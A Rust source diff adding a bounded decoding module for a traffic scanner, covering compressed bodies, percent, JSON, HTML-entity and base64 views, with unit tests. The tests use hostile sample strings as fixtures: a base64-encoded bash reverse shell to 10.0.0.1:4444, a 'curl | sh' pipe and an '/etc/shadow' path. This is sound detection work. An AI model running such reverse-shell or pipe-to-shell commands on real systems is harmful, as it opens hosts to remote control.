@@ -1,0 +1,614 @@
+//! Decoded views of inspected bytes, all bounded.
+//!
+//! Attackers hide secrets behind encodings, so the scanner also looks at the
+//! text as a real client would read it: `Content-Encoding` (gzip, deflate, br,
+//! zstd, stacked), percent-encoding, JSON string escapes, HTML entities and
+//! embedded base64. Every decoder here works on a *copy*: forwarded bytes are
+//! never touched. Output is capped so a decompression bomb costs at most the
+//! cap, not the bomb.
+
+use base64::engine::general_purpose::{GeneralPurpose, GeneralPurposeConfig};
+use base64::engine::DecodePaddingMode;
+use base64::Engine as _;
+use std::io::{self, Write};
+
+/// One supported `Content-Encoding` token.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ContentCoding {
+    Gzip,
+    Deflate,
+    Brotli,
+    Zstd,
+}
+
+impl ContentCoding {
+    pub const fn label(self) -> &'static str {
+        match self {
+            ContentCoding::Gzip => "gzip",
+            ContentCoding::Deflate => "deflate",
+            ContentCoding::Brotli => "br",
+            ContentCoding::Zstd => "zstd",
+        }
+    }
+}
+
+/// A `Content-Encoding` header this scanner cannot decode.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+#[error("unsupported content-encoding token")]
+pub struct UnsupportedCoding;
+
+/// Parses a `Content-Encoding` value into the codings in the order they must
+/// be *undone* (last applied first). `identity` and empty tokens are skipped.
+pub fn parse_content_encoding(value: &str) -> Result<Vec<ContentCoding>, UnsupportedCoding> {
+    let mut out = Vec::new();
+    for token in value.split(',').map(str::trim).filter(|t| !t.is_empty()) {
+        let coding = match token.to_ascii_lowercase().as_str() {
+            "gzip" | "x-gzip" => ContentCoding::Gzip,
+            "deflate" => ContentCoding::Deflate,
+            "br" => ContentCoding::Brotli,
+            "zstd" => ContentCoding::Zstd,
+            "identity" => continue,
+            _ => return Err(UnsupportedCoding),
+        };
+        out.push(coding);
+    }
+    out.reverse();
+    Ok(out)
+}
+
+/// A `Write` sink that keeps at most `cap` bytes and then refuses more, so a
+/// decoder writing into it aborts instead of inflating a bomb.
+#[derive(Debug)]
+struct CappedSink {
+    buf: Vec<u8>,
+    /// Bytes still allowed in total.
+    remaining: usize,
+    overflowed: bool,
+}
+
+impl Write for CappedSink {
+    fn write(&mut self, data: &[u8]) -> io::Result<usize> {
+        if data.is_empty() {
+            return Ok(0);
+        }
+        if self.remaining == 0 {
+            self.overflowed = true;
+            return Err(io::Error::other("decoded size cap reached"));
+        }
+        let n = data.len().min(self.remaining);
+        self.buf.extend_from_slice(&data[..n]);
+        self.remaining -= n;
+        Ok(n)
+    }
+    fn flush(&mut self) -> io::Result<()> {
+        Ok(())
+    }
+}
+
+/// zstd frames asking for a window above 2^23 (8 MiB) are refused: that is
+/// the decoder's memory bound.
+const ZSTD_WINDOW_LOG_MAX: u32 = 23;
+
+enum Stage {
+    Gzip(Box<flate2::write::MultiGzDecoder<CappedSink>>),
+    Zlib(Box<flate2::write::ZlibDecoder<CappedSink>>),
+    RawDeflate(Box<flate2::write::DeflateDecoder<CappedSink>>),
+    /// `deflate` is zlib-wrapped by the RFC but raw in the wild: decide on the first byte.
+    DeflateUndecided(CappedSink),
+    Brotli(Box<brotli_decompressor::DecompressorWriter<CappedSink>>),
+    Zstd(Box<zstd::stream::write::Decoder<'static, CappedSink>>),
+}
+
+impl Stage {
+    fn new(coding: ContentCoding, cap: usize) -> io::Result<Stage> {
+        let sink = CappedSink {
+            buf: Vec::new(),
+            remaining: cap,
+            overflowed: false,
+        };
+        Ok(match coding {
+            ContentCoding::Gzip => Stage::Gzip(Box::new(flate2::write::MultiGzDecoder::new(sink))),
+            ContentCoding::Deflate => Stage::DeflateUndecided(sink),
+            ContentCoding::Brotli => Stage::Brotli(Box::new(
+                brotli_decompressor::DecompressorWriter::new(sink, 4096),
+            )),
+            ContentCoding::Zstd => {
+                let mut d = zstd::stream::write::Decoder::new(sink)?;
+                d.window_log_max(ZSTD_WINDOW_LOG_MAX)?;
+                Stage::Zstd(Box::new(d))
+            }
+        })
+    }
+
+    fn write_all(&mut self, data: &[u8]) -> io::Result<()> {
+        if let Stage::DeflateUndecided(_) = self {
+            let Some(&first) = data.first() else {
+                return Ok(());
+            };
+            let placeholder = Stage::DeflateUndecided(CappedSink {
+                buf: Vec::new(),
+                remaining: 0,
+                overflowed: false,
+            });
+            if let Stage::DeflateUndecided(sink) = std::mem::replace(self, placeholder) {
+                // A zlib header has CM=8 in the low nibble and a valid check.
+                *self = if first & 0x0f == 8 {
+                    Stage::Zlib(Box::new(flate2::write::ZlibDecoder::new(sink)))
+                } else {
+                    Stage::RawDeflate(Box::new(flate2::write::DeflateDecoder::new(sink)))
+                };
+            }
+        }
+        match self {
+            Stage::Gzip(d) => d.write_all(data),
+            Stage::Zlib(d) => d.write_all(data),
+            Stage::RawDeflate(d) => d.write_all(data),
+            Stage::DeflateUndecided(_) => Ok(()),
+            Stage::Brotli(d) => d.write_all(data),
+            Stage::Zstd(d) => d.write_all(data),
+        }
+    }
+
+    fn finish(&mut self) -> io::Result<()> {
+        match self {
+            Stage::Gzip(d) => d.try_finish(),
+            Stage::Zlib(d) => d.try_finish(),
+            Stage::RawDeflate(d) => d.try_finish(),
+            Stage::DeflateUndecided(_) => Ok(()),
+            Stage::Brotli(d) => d.flush(),
+            Stage::Zstd(d) => d.flush(),
+        }
+    }
+
+    fn sink(&mut self) -> &mut CappedSink {
+        match self {
+            Stage::Gzip(d) => d.get_mut(),
+            Stage::Zlib(d) => d.get_mut(),
+            Stage::RawDeflate(d) => d.get_mut(),
+            Stage::DeflateUndecided(s) => s,
+            Stage::Brotli(d) => d.get_mut(),
+            Stage::Zstd(d) => d.get_mut(),
+        }
+    }
+}
+
+/// Why a streaming decode stopped producing output.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum DecodeStop {
+    /// The decoded size cap was reached (possibly a bomb); the rest is not inspected.
+    Capped,
+    /// The compressed stream was corrupt or unsupported.
+    Failed,
+}
+
+/// Streaming decoder for a (possibly stacked) `Content-Encoding`.
+/// Feed compressed chunks, get decoded chunks; total output never exceeds `cap`.
+pub struct StreamDecoder {
+    stages: Vec<Stage>,
+    stopped: Option<DecodeStop>,
+    label: String,
+}
+
+impl std::fmt::Debug for StreamDecoder {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.debug_struct("StreamDecoder")
+            .field("label", &self.label)
+            .field("stopped", &self.stopped)
+            .finish()
+    }
+}
+
+impl StreamDecoder {
+    /// `codings` in undo order, as returned by [`parse_content_encoding`].
+    pub fn new(codings: &[ContentCoding], cap: usize) -> StreamDecoder {
+        let mut stages = Vec::with_capacity(codings.len());
+        let mut stopped = None;
+        for &c in codings {
+            match Stage::new(c, cap) {
+                Ok(s) => stages.push(s),
+                Err(_) => stopped = Some(DecodeStop::Failed),
+            }
+        }
+        let label = codings
+            .iter()
+            .map(|c| c.label())
+            .collect::<Vec<_>>()
+            .join(">");
+        StreamDecoder {
+            stages,
+            stopped,
+            label,
+        }
+    }
+
+    /// The decoding chain label, e.g. `gzip` or `br>gzip`.
+    pub fn label(&self) -> &str {
+        &self.label
+    }
+
+    pub fn stopped(&self) -> Option<DecodeStop> {
+        self.stopped
+    }
+
+    /// Pushes compressed bytes; returns newly decoded bytes (possibly empty).
+    pub fn push(&mut self, data: &[u8]) -> Vec<u8> {
+        self.run(data, false)
+    }
+
+    /// Ends the stream; returns any remaining decoded bytes.
+    pub fn finish(&mut self) -> Vec<u8> {
+        self.run(&[], true)
+    }
+
+    fn run(&mut self, data: &[u8], last: bool) -> Vec<u8> {
+        if self.stopped.is_some() {
+            return Vec::new();
+        }
+        let mut current = data.to_vec();
+        for stage in &mut self.stages {
+            let mut result = if current.is_empty() {
+                Ok(())
+            } else {
+                stage.write_all(&current)
+            };
+            if result.is_ok() && last {
+                result = stage.finish();
+            }
+            let sink = stage.sink();
+            let overflowed = sink.overflowed;
+            current = std::mem::take(&mut sink.buf);
+            if result.is_err() {
+                self.stopped = Some(if overflowed {
+                    DecodeStop::Capped
+                } else {
+                    DecodeStop::Failed
+                });
+                return current;
+            }
+        }
+        current
+    }
+}
+
+/// Decodes a whole body with its `Content-Encoding`, capped at `cap` bytes.
+pub fn decode_body(codings: &[ContentCoding], body: &[u8], cap: usize) -> (Vec<u8>, Option<DecodeStop>) {
+    let mut d = StreamDecoder::new(codings, cap);
+    let mut out = d.push(body);
+    if d.stopped().is_none() {
+        out.extend(d.finish());
+    }
+    (out, d.stopped())
+}
+
+fn hex_val(b: u8) -> Option<u8> {
+    match b {
+        b'0'..=b'9' => Some(b - b'0'),
+        b'a'..=b'f' => Some(b - b'a' + 10),
+        b'A'..=b'F' => Some(b - b'A' + 10),
+        _ => None,
+    }
+}
+
+/// Percent-decodes `%XX` sequences. `+` is kept: it is a space only in forms,
+/// and base64 secrets contain it. Returns `None` when nothing was decoded.
+pub fn percent_decode(text: &[u8]) -> Option<Vec<u8>> {
+    memchr::memchr(b'%', text)?;
+    let mut out = Vec::with_capacity(text.len());
+    let mut changed = false;
+    let mut i = 0;
+    while i < text.len() {
+        if text[i] == b'%' && i + 2 < text.len() {
+            if let (Some(h), Some(l)) = (hex_val(text[i + 1]), hex_val(text[i + 2])) {
+                out.push(h << 4 | l);
+                i += 3;
+                changed = true;
+                continue;
+            }
+        }
+        out.push(text[i]);
+        i += 1;
+    }
+    changed.then_some(out)
+}
+
+/// Undoes JSON string escapes (`\/`, `\"`, `\\`, `\n`, `\uXXXX` incl.
+/// surrogate pairs). Returns `None` when the text has no `\u` or `\/`
+/// escapes (plain `\n` alone hides nothing).
+pub fn json_unescape(text: &[u8]) -> Option<Vec<u8>> {
+    let has_trigger = memchr::memmem::find(text, b"\\u").is_some()
+        || memchr::memmem::find(text, b"\\/").is_some();
+    if !has_trigger {
+        return None;
+    }
+    let mut out = Vec::with_capacity(text.len());
+    let mut i = 0;
+    let mut pending_high: Option<u32> = None;
+    while i < text.len() {
+        if text[i] == b'\\' && i + 1 < text.len() {
+            let e = text[i + 1];
+            let simple = match e {
+                b'/' => Some(b'/'),
+                b'"' => Some(b'"'),
+                b'\\' => Some(b'\\'),
+                b'n' => Some(b'\n'),
+                b'r' => Some(b'\r'),
+                b't' => Some(b'\t'),
+                b'b' => Some(0x08),
+                b'f' => Some(0x0c),
+                _ => None,
+            };
+            if let Some(c) = simple {
+                out.push(c);
+                i += 2;
+                continue;
+            }
+            if e == b'u' && i + 6 <= text.len() {
+                let digits = &text[i + 2..i + 6];
+                let mut v: u32 = 0;
+                let mut ok = true;
+                for &d in digits {
+                    match hex_val(d) {
+                        Some(h) => v = v << 4 | u32::from(h),
+                        None => ok = false,
+                    }
+                }
+                if ok {
+                    i += 6;
+                    if (0xD800..0xDC00).contains(&v) {
+                        pending_high = Some(v);
+                        continue;
+                    }
+                    let cp = match pending_high.take() {
+                        Some(h) if (0xDC00..0xE000).contains(&v) => {
+                            0x10000 + ((h - 0xD800) << 10) + (v - 0xDC00)
+                        }
+                        _ => v,
+                    };
+                    let ch = char::from_u32(cp).unwrap_or('\u{FFFD}');
+                    let mut buf = [0u8; 4];
+                    out.extend_from_slice(ch.encode_utf8(&mut buf).as_bytes());
+                    continue;
+                }
+            }
+        }
+        out.push(text[i]);
+        i += 1;
+    }
+    Some(out)
+}
+
+/// Decodes numeric (`&#47;`, `&#x2F;`) and the common named HTML entities.
+/// Returns `None` when the text has no entity.
+pub fn html_unescape(text: &[u8]) -> Option<Vec<u8>> {
+    memchr::memchr(b'&', text)?;
+    let mut out = Vec::with_capacity(text.len());
+    let mut changed = false;
+    let mut i = 0;
+    while i < text.len() {
+        if text[i] == b'&' {
+            let rest = &text[i + 1..text.len().min(i + 12)];
+            if let Some(semi) = memchr::memchr(b';', rest) {
+                let name = &rest[..semi];
+                let decoded: Option<u32> = if let Some(num) = name.strip_prefix(b"#") {
+                    let (digits, radix) = match num.first() {
+                        Some(b'x') | Some(b'X') => (&num[1..], 16),
+                        _ => (num, 10),
+                    };
+                    std::str::from_utf8(digits)
+                        .ok()
+                        .filter(|d| !d.is_empty())
+                        .and_then(|d| u32::from_str_radix(d, radix).ok())
+                } else {
+                    match name {
+                        b"amp" => Some(u32::from('&')),
+                        b"lt" => Some(u32::from('<')),
+                        b"gt" => Some(u32::from('>')),
+                        b"quot" => Some(u32::from('"')),
+                        b"apos" => Some(u32::from('\'')),
+                        b"sol" => Some(u32::from('/')),
+                        b"nbsp" => Some(u32::from(' ')),
+                        b"colon" => Some(u32::from(':')),
+                        b"vert" | b"verbar" => Some(u32::from('|')),
+                        b"dollar" => Some(u32::from('$')),
+                        _ => None,
+                    }
+                };
+                if let Some(ch) = decoded.and_then(char::from_u32) {
+                    let mut buf = [0u8; 4];
+                    out.extend_from_slice(ch.encode_utf8(&mut buf).as_bytes());
+                    i += semi + 2;
+                    changed = true;
+                    continue;
+                }
+            }
+        }
+        out.push(text[i]);
+        i += 1;
+    }
+    changed.then_some(out)
+}
+
+/// Shortest base64 run worth decoding (18 bytes of payload).
+pub const BASE64_MIN_RUN: usize = 24;
+/// Longest base64 run decoded; longer runs are images or archives.
+pub const BASE64_MAX_RUN: usize = 64 * 1024;
+/// At most this many base64 runs are decoded per view.
+pub const BASE64_MAX_RUNS: usize = 64;
+
+const B64_LENIENT: GeneralPurposeConfig = GeneralPurposeConfig::new()
+    .with_decode_padding_mode(DecodePaddingMode::Indifferent)
+    .with_decode_allow_trailing_bits(true);
+const B64_STD: GeneralPurpose = GeneralPurpose::new(&base64::alphabet::STANDARD, B64_LENIENT);
+const B64_URL: GeneralPurpose = GeneralPurpose::new(&base64::alphabet::URL_SAFE, B64_LENIENT);
+
+static B64_CLASS: [bool; 256] = {
+    let mut t = [false; 256];
+    let mut i = 0;
+    while i < 256 {
+        let b = i as u8;
+        t[i] = b.is_ascii_alphanumeric() || b == b'+' || b == b'/' || b == b'-' || b == b'_';
+        i += 1;
+    }
+    t
+};
+
+fn mostly_text(bytes: &[u8]) -> bool {
+    if bytes.len() < 12 {
+        return false;
+    }
+    let printable = bytes
+        .iter()
+        .filter(|&&b| (0x20..0x7f).contains(&b) || b == b'\n' || b == b'\r' || b == b'\t')
+        .count();
+    printable * 10 >= bytes.len() * 9
+}
+
+/// Finds base64 runs and decodes those that turn out to be text. The decoded
+/// runs are joined with newlines into one view. Returns `None` if none decoded.
+pub fn base64_segments(text: &[u8]) -> Option<Vec<u8>> {
+    let mut out: Vec<u8> = Vec::new();
+    let mut runs = 0;
+    let mut i = 0;
+    let n = text.len();
+    while i < n && runs < BASE64_MAX_RUNS {
+        if !B64_CLASS[usize::from(text[i])] {
+            i += 1;
+            continue;
+        }
+        let start = i;
+        let (mut has_std, mut has_url) = (false, false);
+        while i < n && B64_CLASS[usize::from(text[i])] {
+            match text[i] {
+                b'+' | b'/' => has_std = true,
+                b'-' | b'_' => has_url = true,
+                _ => {}
+            }
+            i += 1;
+        }
+        let end = i;
+        while i < n && text[i] == b'=' {
+            i += 1;
+        }
+        let len = end - start;
+        if !(BASE64_MIN_RUN..=BASE64_MAX_RUN).contains(&len) || (has_std && has_url) {
+            continue;
+        }
+        runs += 1;
+        let run = &text[start..end];
+        let decoded = if has_url {
+            B64_URL.decode(run)
+        } else {
+            B64_STD.decode(run)
+        };
+        if let Ok(d) = decoded {
+            if mostly_text(&d) {
+                if !out.is_empty() {
+                    out.push(b'\n');
+                }
+                out.extend_from_slice(&d);
+            }
+        }
+    }
+    (!out.is_empty()).then_some(out)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn gzip(data: &[u8]) -> Vec<u8> {
+        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+        e.write_all(data).unwrap();
+        e.finish().unwrap()
+    }
+
+    #[test]
+    fn parses_stacked_encodings_in_undo_order() {
+        assert_eq!(
+            parse_content_encoding("gzip, br").unwrap(),
+            vec![ContentCoding::Brotli, ContentCoding::Gzip]
+        );
+        assert_eq!(parse_content_encoding("identity").unwrap(), vec![]);
+        assert!(parse_content_encoding("compress").is_err());
+    }
+
+    #[test]
+    fn gzip_streams_across_chunks() {
+        let plain = b"hello world ".repeat(1000);
+        let z = gzip(&plain);
+        let mut d = StreamDecoder::new(&[ContentCoding::Gzip], 1 << 20);
+        let mut out = Vec::new();
+        for c in z.chunks(7) {
+            out.extend(d.push(c));
+        }
+        out.extend(d.finish());
+        assert_eq!(out, plain);
+        assert_eq!(d.stopped(), None);
+    }
+
+    #[test]
+    fn deflate_zlib_and_raw_and_brotli_and_zstd() {
+        let plain = b"the quick brown fox jumps over the lazy dog".repeat(50);
+        let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+        z.write_all(&plain).unwrap();
+        let zlib = z.finish().unwrap();
+        let mut r = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
+        r.write_all(&plain).unwrap();
+        let raw = r.finish().unwrap();
+        assert_eq!(decode_body(&[ContentCoding::Deflate], &zlib, 1 << 20).0, plain);
+        assert_eq!(decode_body(&[ContentCoding::Deflate], &raw, 1 << 20).0, plain);
+        let zs = zstd::stream::encode_all(&plain[..], 3).unwrap();
+        assert_eq!(decode_body(&[ContentCoding::Zstd], &zs, 1 << 20).0, plain);
+        let mut br = Vec::new();
+        {
+            let mut w = brotli::CompressorWriter::new(&mut br, 4096, 5, 22);
+            w.write_all(&plain).unwrap();
+        }
+        assert_eq!(decode_body(&[ContentCoding::Brotli], &br, 1 << 20).0, plain);
+    }
+
+    #[test]
+    fn bombs_stop_at_the_cap() {
+        let bomb = gzip(&vec![b'A'; 50 << 20]);
+        let (out, stop) = decode_body(&[ContentCoding::Gzip], &bomb, 1 << 20);
+        assert_eq!(out.len(), 1 << 20);
+        assert_eq!(stop, Some(DecodeStop::Capped));
+        // Stacked: gzip inside gzip.
+        let double = gzip(&bomb);
+        let (out, stop) = decode_body(&[ContentCoding::Gzip, ContentCoding::Gzip], &double, 1 << 20);
+        assert!(out.len() <= 1 << 20);
+        assert_eq!(stop, Some(DecodeStop::Capped));
+    }
+
+    #[test]
+    fn corrupt_streams_fail_cleanly() {
+        let (_, stop) = decode_body(&[ContentCoding::Gzip], b"not gzip at all", 1024);
+        assert_eq!(stop, Some(DecodeStop::Failed));
+        let (_, stop) = decode_body(&[ContentCoding::Zstd], b"\x28\xb5\x2f\xfdgarbage", 1024);
+        assert_eq!(stop, Some(DecodeStop::Failed));
+    }
+
+    #[test]
+    fn text_views() {
+        assert_eq!(percent_decode(b"a%2Fb%3dc%zz%").unwrap(), b"a/b=c%zz%");
+        assert_eq!(percent_decode(b"plain"), None);
+        assert_eq!(
+            json_unescape(br#"{"p":"\/etc\/shadow","u":"\u0041\ud83d\ude00"}"#).unwrap(),
+            "{\"p\":\"/etc/shadow\",\"u\":\"A\u{1F600}\"}".as_bytes()
+        );
+        assert_eq!(json_unescape(b"line\\nbreak"), None);
+        assert_eq!(
+            html_unescape(b"curl x &#124; sh &amp;&amp; &#x2F;etc &bogus;").unwrap(),
+            b"curl x | sh && /etc &bogus;"
+        );
+        let enc = base64::engine::general_purpose::STANDARD.encode("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
+        let text = format!("payload={enc}&x=1");
+        assert_eq!(
+            base64_segments(text.as_bytes()).unwrap(),
+            b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
+        );
+        // Binary-looking base64 (an image) is not a text view.
+        let img = base64::engine::general_purpose::STANDARD.encode((0u8..=255).collect::<Vec<_>>());
+        assert_eq!(base64_segments(img.as_bytes()), None);
+    }
+}
